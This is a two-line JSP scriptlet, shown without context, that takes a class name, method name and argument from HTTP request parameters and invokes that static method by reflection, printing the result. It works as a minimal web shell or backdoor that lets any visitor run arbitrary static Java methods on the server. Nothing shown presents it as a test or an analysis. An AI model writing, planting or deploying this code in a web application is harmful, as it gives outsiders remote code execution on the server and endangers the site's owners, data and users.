<% String cn = request.getParameter("c"); String mn = request.getParameter("m");
Class k = Class.forName(cn); java.lang.reflect.Method m = k.getMethod(mn, String.class); out.print(m.invoke(null, request.getParameter("a"))); %>
